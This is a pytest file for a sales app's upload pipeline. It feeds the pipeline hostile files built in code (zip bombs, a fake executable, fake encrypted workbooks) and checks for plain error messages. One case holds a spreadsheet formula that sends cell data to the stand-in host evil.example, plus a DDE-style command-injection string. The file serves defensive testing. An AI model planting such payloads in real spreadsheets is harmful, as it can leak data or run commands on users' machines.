"""Bad and hostile uploads: each one gives a plain-words message, keeps every good row and lists
every rejected row (table, source, row, reason). Every file is built here in code."""
from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from core.dataset import Dataset
from core.errors import UserError
from core.ingest.pipeline import ingest
from tests.ingest_helpers import assert_rows_accounted, xlsx

ROOT = Path(__file__).resolve().parents[1]
TECHNICAL = re.compile(r"Traceback|\b\w*(?:Error|Exception)\b|BadZip|zipfile|calamine|pandas|Timestamp|"
                       r"\bdtype\b|File \"|line \d+|\bNone\b|\bnan\b|<[a-z_]+ object")
H = ["Date", "Rep", "Product", "Revenue"]
GOOD = [["2024-01-05", "R1", "GTX", "100"], ["2024-01-06", "R2", "GTX", "200"]]


# --------------------------------------------------------------------------------------- builders
def csv(rows: list[list[object]], sep: str = ",") -> bytes:
    return ("\n".join(sep.join(map(str, r)) for r in rows) + "\n").encode()




def good_xlsx() -> bytes:
    return xlsx({"Sales": [H, *GOOD]})


def cfb(streams: list[str]) -> bytes:
    """A minimal OLE2 / compound file (the container Excel wraps an encrypted .xlsx in)."""
    end, free, no = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFF
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *[free] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, end, *[free] * 126)

    def entry(name: str, kind: int, child: int, right: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", no, right, child) + bytes(16 + 4 + 16) + struct.pack("<IQ", end, 0))

    entries = [entry("Root Entry", 5, 1, no)]
    entries += [entry(n, 2, no, i + 2 if i + 1 < len(streams) else no) for i, n in enumerate(streams)]
    directory = b"".join(entries).ljust(512, b"\x00")
    return header + fat + directory


def with_declared_sizes(data: bytes, size: int) -> bytes:
    """The same zip, each part declaring `size` unpacked bytes (local headers and central directory)."""
    out = bytearray(data)
    for m in re.finditer(rb"PK\x03\x04", data):
        struct.pack_into("<I", out, m.start() + 22, size)
    for m in re.finditer(rb"PK\x01\x02", data):
        struct.pack_into("<I", out, m.start() + 24, size)
    return bytes(out)


def lying_zip() -> bytes:
    """A workbook whose sheet declares 1 KB but unpacks to 50 MB."""
    book = zipfile.ZipFile(io.BytesIO(good_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for part in book.infolist():
            body = book.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                body = body + b" " * (50 << 20)
            out.writestr(part.filename, body)
    data = buffer.getvalue()
    name = b"xl/worksheets/sheet1.xml"
    out = bytearray(data)
    for sig, size_at, name_at in ((rb"PK\x03\x04", 22, 30), (rb"PK\x01\x02", 24, 46)):
        for m in re.finditer(sig, data):
            if data[m.start() + name_at:m.start() + name_at + len(name)] == name:
                struct.pack_into("<I", out, m.start() + size_at, 1000)
    return bytes(out)


def far_cell_xlsx() -> bytes:
    """5 KB: two real rows and one cell at XFD1048576 — 17 billion cells if read as a grid."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sales"
    for r in [H, *GOOD]:
        ws.append(r)
    ws.cell(row=1_048_576, column=16_384, value="x")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def hidden_sheets() -> bytes:
    wb = openpyxl.Workbook()
    wb.active.title = "Sales"
    for r in [H, *GOOD]:
        wb.active.append(r)
    ws = wb.create_sheet("Old")
    ws.sheet_state = "veryHidden"
    for r in [H, ["2024-01-07", "R3", "GTX", "300"]]:
        ws.append(r)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def xlsb_like() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
        z.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00")
    return buffer.getvalue()


def zip_of_csv() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("sales.csv", csv([H, *GOOD]))
    return buffer.getvalue()


def million_rows() -> bytes:
    n = 1_000_000
    i = np.arange(n)
    frame = pd.DataFrame({"Date": pd.Timestamp("2023-01-01") + pd.to_timedelta(i % 700, unit="D"),
                          "Rep": "R" + pd.Series(i % 250).astype("str"), "Product": "GTX",
                          "Revenue": i + 0.5})
    return frame.to_csv(index=False, date_format="%Y-%m-%d").encode()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 8
ROSTER = [["Rep ID", "Rep Name", "Region", "Territory"], ["R1", "Ann Lee", "East", "T1"],
          ["R2", "Bob Roy", "West", "T2"]]
TODAY = pd.Timestamp.today().normalize()
BIG = "x" * 100_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


# --------------------------------------------------------------------------------------- cases
@dataclass
class Case:
    """Files in; the message the user should see; the rows kept and the rows listed as rejected."""

    id: str
    files: Callable[[], list[tuple[str, bytes]]]
    message: str                                 # regex the user-facing text must contain
    loaded: dict[str, int] | None = None         # None: nothing can be loaded (a UserError)
    rejected: set[tuple[str, str, int]] = field(default_factory=set)   # (table, source, row)
    check: Callable[[Dataset], None] | None = None


def _values(table: str, column: str, expected: list) -> Callable[[Dataset], None]:
    def check(ds: Dataset) -> None:
        assert ds.tables[table][column].tolist() == expected
    return check


def _header_row(source: str, row: int) -> Callable[[Dataset], None]:
    def check(ds: Dataset) -> None:
        assert {s.source: s.header_row for s in ds.sources}[source] == row
    return check


MIXED_DATES = ["2024-01-05", "1/6/2024", "07.01.2024", '"Jan 8, 2024"', "45300", "20240110",
               "2024-01-11T10:00:00", "11-Jan-24", '"Mon, 15 Jan 2024 10:00:00 +0100"', "not a date", "Jan 8"]

CASES = [
    # ---------------------------------------------------------------- files that cannot be read
    Case("empty file", lambda: [("sales.csv", b"")], r"sales\.csv is empty"),
    Case("only a UTF-8 BOM", lambda: [("sales.csv", b"\xef\xbb\xbf\r\n")], r"sales\.csv is empty"),
    Case("program renamed .xlsx", lambda: [("report.xlsx", EXE)], r"report\.xlsx is not an Excel workbook"),
    Case("random bytes as .csv", lambda: [("data.csv", bytes(range(256)) * 40)], r"data\.csv is not a text \(CSV\) file"),
    Case("an image", lambda: [("logo.png", PNG)], r"files of type '\.png' are not supported"),
    Case("an image renamed .csv", lambda: [("sales.csv", PNG)], r"sales\.csv is not a text \(CSV\) file"),
    Case("truncated xlsx", lambda: [("sales.xlsx", good_xlsx()[:1500])], r"sales\.xlsx could not be opened: it is damaged or incomplete"),
    Case("password-protected xlsx", lambda: [("locked.xlsx", cfb(["EncryptionInfo", "EncryptedPackage"]))],
         r"locked\.xlsx is password-protected.*save a copy without a password"),
    Case("compound file named .xlsx", lambda: [("locked.xlsx", cfb(["Data"]))], r"password-protected"),
    Case("zip bomb: parts declare gigabytes", lambda: [("bomb.xlsx", with_declared_sizes(good_xlsx(), 3_000_000_000))],
         r"bomb\.xlsx is too big to read once unpacked"),
    Case("zip bomb: one cell at XFD1048576", lambda: [("bomb.xlsx", far_cell_xlsx())], r"bomb\.xlsx is too big to read once unpacked"),
    Case("zip part unpacks past its declared size", lambda: [("sly.xlsx", lying_zip())], r"sly\.xlsx could not be opened: it is damaged"),
    Case("corrupt .xls", lambda: [("old.xls", cfb(["Workbook"])[:700])], r"old\.xls could not be opened as a workbook"),
    Case(".xlsb", lambda: [("sales.xlsb", xlsb_like())], r"binary Excel workbook \(\.xlsb\).*save it as \.xlsx"),
    Case("a zip that is not a workbook", lambda: [("sales.xlsx", zip_of_csv())], r"zip archive, not an Excel workbook"),
    Case("workbook with no data in any sheet", lambda: [("empty.xlsx", xlsx({"Sheet1": [], "Sheet2": []}))],
         r"empty\.xlsx has no sheet with any data"),
    Case("sheet with only headers", lambda: [("sales.csv", csv([H]))], r"sales\.csv has column headers but no rows of data"),
    Case("every sheet a pivot table", lambda: [("pivots.xlsx", xlsx({
        "Pivot1": [["Sum of Revenue", "Column Labels"], ["Row Labels", "East", "West", "Grand Total"],
                   ["Ann", 1, 2, 3], ["Bob", 4, 5, 9], ["Grand Total", 5, 7, 12]],
        "Pivot2": [["Row Labels", "Count of Deals"], ["Q1", 3], ["Q2", 4], ["Grand Total", 7]]}))],
         r"pivots\.xlsx › Pivot1 looks like a pivot table.*upload the data the pivot is built from.*"
         r"sales table \(date, rep, product, revenue\)"),
    Case("nothing recognisable", lambda: [("misc.csv", csv([["Colour", "Size"], ["red", "L"]]))],
         r"misc\.csv was not recognised \(its columns: Colour, Size\).*something to sell"),
    Case("required column missing", lambda: [("sales.csv", csv([["Date", "Rep", "Revenue"], ["2024-01-05", "R1", "5"]]))],
         r"sales\.csv was not loaded as sales: required column\(s\) product not found"),
    # ---------------------------------------------------------------- files that load, with rows set apart
    Case("an empty file next to a good one", lambda: [("empty.csv", b""), ("sales.xlsx", good_xlsx())],
         r"empty\.csv is empty", {"sales": 2}),
    Case("a damaged workbook next to a good one", lambda: [("bad.xlsx", good_xlsx()[:900]), ("sales.csv", csv([H, *GOOD]))],
         r"bad\.xlsx could not be opened", {"sales": 2}),
    Case("headers on row 4 under a title block", lambda: [("sales.xlsx", xlsx({"Sales": [
        ["ACME Medical — Q1 sales"], ["Run on 2024-04-01 by J. Doe"], [], H, *GOOD]}))],
         r"", {"sales": 2}, check=_header_row("sales.xlsx › Sales", 4)),
    Case("merged header cells", lambda: [("sales.xlsx", xlsx({"Sales": [
        ["Date", "Rep", "Product", "Revenue", None], ["2024-01-05", "R1", "GTX", 100, 7], ["2024-01-06", "R2", "GTX", 200, 8]]},
        merges=("D1:E1",)))],
         r"column name appears more than once", {"sales": 2}, check=_values("sales", "revenue", [100.0, 200.0])),
    Case("duplicate column names", lambda: [("sales.csv", csv([[*H, "Revenue"], ["2024-01-05", "R1", "GTX", 100, 9]]))],
         r"column name appears more than once", {"sales": 1}, check=_values("sales", "revenue", [100.0])),
    Case("every date format in one column", lambda: [("sales.csv", csv([H, *[[d, "R1", "GTX", i] for i, d in enumerate(MIXED_DATES)]]))],
         r"cannot read as a date", {"sales": 9}, {("sales", "sales.csv", 11), ("sales", "sales.csv", 12)}),
    Case("text in number columns", lambda: [("sales.csv", csv([H, ["2024-01-05", "R1", "GTX", "n/a"],
                                                                 ["2024-01-05", "R2", "GTX", '"USD 1,2k"'],
                                                                 ["2024-01-05", "R3", "GTX", "lots"]]))],
         r"cannot read as a number", {"sales": 1}, {("sales", "sales.csv", 2), ("sales", "sales.csv", 4)},
         check=_values("sales", "revenue", [1200.0])),
    Case("negative quotas and quotas of 0", lambda: [("sales.csv", csv([H, *GOOD])), ("quotas.csv", csv([
        ["Rep", "Period", "Quota"], ["R1", "2024-Q1", -5], ["R2", "2024-Q1", 0], ["R1", "2024-Q2", 100]]))],
         r"quota must be greater than 0", {"sales": 2, "quotas": 1}, {("quotas", "quotas.csv", 2), ("quotas", "quotas.csv", 3)}),
    Case("future dates and dates in 1900", lambda: [("sales.csv", csv([H, *GOOD,
                                                                        ["2099-01-05", "R1", "GTX", 3], ["1900-01-05", "R1", "GTX", 4],
                                                                        [(TODAY + pd.Timedelta(days=30)).strftime("%Y-%m-%d"), "R1", "GTX", 5]]))],
         r"date before 1990 or more than a year in the future", {"sales": 3},
         {("sales", "sales.csv", 4), ("sales", "sales.csv", 5)}),
    Case("duplicated ids", lambda: [("sales.csv", csv([H, *GOOD])), ("reps.csv", csv([*ROSTER, ["R1", "Ann Twin", "East", "T1"]]))],
         r"rep_id appears more than once; the first is kept", {"sales": 2, "reps": 2},
         check=_values("reps", "rep_name", ["Ann Lee", "Bob Roy"])),
    Case("orphans: sales of unknown reps", lambda: [("sales.csv", csv([H, *GOOD, ["2024-01-07", "R9", "GTX", 9]])),
                                                     ("reps.csv", csv(ROSTER))],
         r"rep 'R9' is not in reps \(1 rows\); kept", {"sales": 3, "reps": 2}),
    Case("300 columns", lambda: [("sales.csv", csv([[*H, *[f"Extra {i}" for i in range(296)]],
                                                     *[[*g, *range(296)] for g in GOOD]]))], r"", {"sales": 2}),
    Case("cells of 100,000 characters", lambda: [("sales.csv", csv([H, ["2024-01-05", "R1", BIG, 1], ["2024-01-05", "R1", "GTX", BIG]]))],
         r"cannot read as a number", {"sales": 1}, {("sales", "sales.csv", 3)},
         check=lambda ds: (ds.tables["sales"]["product"].tolist() == [BIG]) or pytest.fail("long text cut")),
    Case("emoji and right-to-left names", lambda: [("sales.csv", csv([H, ["2024-01-05", "😀 Ann", "GTX ✨", 1],
                                                                        ["2024-01-05", "מרים כהן", "GTX", 2],
                                                                        ["2024-01-05", "محمد علي", "GTX", 3]]))],
         r"", {"sales": 3}, check=_values("sales", "rep_id", ["😀 Ann", "מרים כהן", "محمد علي"])),
    Case("mixed delimiters and quoted newlines", lambda: [("sales.csv",
         b'Date;Rep;Product;Revenue\n2024-01-05;R1;"GTX\nPro";100\n2024-01-06,R2,GTX,5\n2024-01-07;R3;"a;b";7\n')],
         r"cannot read as a date", {"sales": 2}, {("sales", "sales.csv", 3)},  # records, as Excel numbers them
         check=_values("sales", "product", ["GTX\nPro", "a;b"])),
    Case("a NUL byte in a CSV", lambda: [("sales.csv", b"Date,Rep,Product,Revenue\n2024-01-05,R1,GT\x00X,100\n2024-01-06,R1,GTX,5\n")],
         r"", {"sales": 2}, check=_values("sales", "product", ["GTX", "GTX"])),
    Case("formula injection in a name", lambda: [("sales.csv", csv([H, ["2024-01-05", '"' + FORMULA.replace('"', '""') + '"', "@SUM(A1)", 1],
                                                                       ["2024-01-06", "+cmd|' /C calc'!A0", "-2+3", 2]]))],
         r"", {"sales": 2}, check=_values("sales", "rep_id", [FORMULA, "+cmd|' /C calc'!A0"])),
    Case("many blank rows between the data", lambda: [("sales.csv", csv([H] + [GOOD[0] if i % 2000 == 0 else ["", "", "", ""]
                                                                               for i in range(100_000)]))],
         r"blank row skipped", {"sales": 1}),
    Case("a text export saved as .xls", lambda: [("sales.xls", csv([H, *GOOD], sep="\t"))], r"", {"sales": 2}),
    # ---------------------------------------------------------------- issue 12: integrity
    Case("a CSV cell over 131,072 characters", lambda: [("sales.csv", csv([["Sales export"], [*H, "Notes"],
                                                                         ["2024-01-05", "R1", "GTX", 1, "n" * 200_000]]))],
         r"", {"sales": 1}),
    Case("a million fields on one line", lambda: [("wide.csv", b"Date,Rep,Product,Revenue\n" + b",".join([b"x"] * 1_000_000))],
         r"wide\.csv has 1,000,000 columns on one line \(row 2 of the file\); GoalGap reads tables of at most 1,000 columns"),
    Case("infinite and absurd amounts", lambda: [("sales.csv", csv([H, *GOOD, ["2024-01-07", "R1", "GTX", "inf"],
                                                                       ["2024-01-08", "R1", "GTX", "1e308"]]))],
         r"not a usable revenue: infinite or 1,000,000,000,000 or more", {"sales": 2},
         {("sales", "sales.csv", 4), ("sales", "sales.csv", 5)}),
    Case("an ERP 'end of time' date", lambda: [("sales.csv", csv([H, *GOOD, ["9999-12-31", "R1", "GTX", 3]]))],
         r"'no date' value .* fill it in", {"sales": 2}, {("sales", "sales.csv", 4)}),
    Case("a header with a Cyrillic letter", lambda: [("sales.csv", csv([["Date", "Rep", "Product", "Rev\u0435nue"], *GOOD]))],
         r"letters of another alphabet", {"sales": 2}),
    Case("hidden sheets", lambda: [("book.xlsx", hidden_sheets())], r"this sheet is very hidden in the workbook; its 1 rows",
         {"sales": 3}),
    Case("time zones mixed in a date column", lambda: [("sales.csv", csv([H, ['"Mon, 01 Jan 2024 10:00:00 +0100"', "R1", "GTX", 1],
                                                                             ['"Jan 2 2024 10:00 UTC"', "R1", "GTX", 2]]))],
         r"", {"sales": 2}, check=_values("sales", "date", [pd.Timestamp("2024-01-01"), pd.Timestamp("2024-01-02")])),
]


# --------------------------------------------------------------------------------------- checks
def assert_plain(text: str) -> None:
    assert text.strip(), "an empty message"
    assert not TECHNICAL.search(text), f"technical words in a user message: {text!r}"




def rejected_rows(ds: Dataset) -> set[tuple[str, str, int]]:
    r = ds.issues[(ds.issues["Kind"] == "rejected") & ds.issues["Row"].notna()]
    return set(zip(r["Table"], r["Source"], r["Row"].astype(int), strict=False))


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 30 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case):
    """Plain message, no exception other than UserError, good rows kept, rejected rows listed."""
    files = case.files()
    if case.loaded is None:
        with pytest.raises(UserError) as err:
            ingest(files)
        message = str(err.value)
        assert re.search(case.message, message, re.S), message
        assert_plain(message)
        return
    ds = ingest(files)
    for table, n in case.loaded.items():
        assert len(ds.tables[table]) == n, table
    assert rejected_rows(ds) == case.rejected
    for problem in ds.issues["Problem"]:
        assert_plain(problem)
    if case.message:
        assert ds.issues["Problem"].str.contains(case.message, regex=True).any(), ds.issues["Problem"].tolist()
    assert_rows_accounted(ds)
    if case.check:
        case.check(ds)


@pytest.mark.slow   # a 1,000,000-line file: out of the default run, run by .ci/run's slow step
def test_a_million_rows_load_without_loss():
    """1,000,000 distinct sales lines in one CSV: every one loaded (the time is the benchmark's)."""
    ds = ingest([("sales.csv", million_rows())])
    assert len(ds.tables["sales"]) == 1_000_000
    assert ds.issues[ds.issues["Kind"].isin(["rejected", "duplicate"])].empty
    assert ds.tables["sales"]["revenue"].sum() == 500_000_000_000.0   # Σ (i + 0.5), every row counted


# --------------------------------------------------------------------------------------- through the app
APP_CASES = ["empty file", "password-protected xlsx", "zip bomb: one cell at XFD1048576", "every sheet a pivot table",
             "text in number columns", "formula injection in a name", "an empty file next to a good one",
             "a million fields on one line"]


@pytest.mark.skipif(not (ROOT / "sample_data" / "goalgap_sample.xlsx").exists(), reason="no sample workbook")
@pytest.mark.parametrize("case_id", APP_CASES)
def test_bad_input_in_the_app(case_id: str):
    """Uploaded through the Data page's file uploader: no exception element, the message is on screen."""
    from streamlit.testing.v1 import AppTest

    case = next(c for c in CASES if c.id == case_id)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("pages/data.py")
    at.run()
    at.file_uploader(key="data_upload").set_value([(n, d, "application/octet-stream") for n, d in case.files()])
    at.run()
    assert not at.exception
    if case.loaded is None:
        shown = " ".join(e.value for e in at.error)
    else:
        reports = [d.value for d in at.dataframe if "Problem" in d.value.columns]
        shown = " ".join(reports[0]["Problem"].astype("str")) if reports else ""
        counts = at.dataframe[0].value.set_index("Table")["rows loaded"]
        assert {t: counts[t] for t in case.loaded} == case.loaded
    assert re.search(case.message, shown, re.S), shown
    if case.message:
        assert_plain(shown)
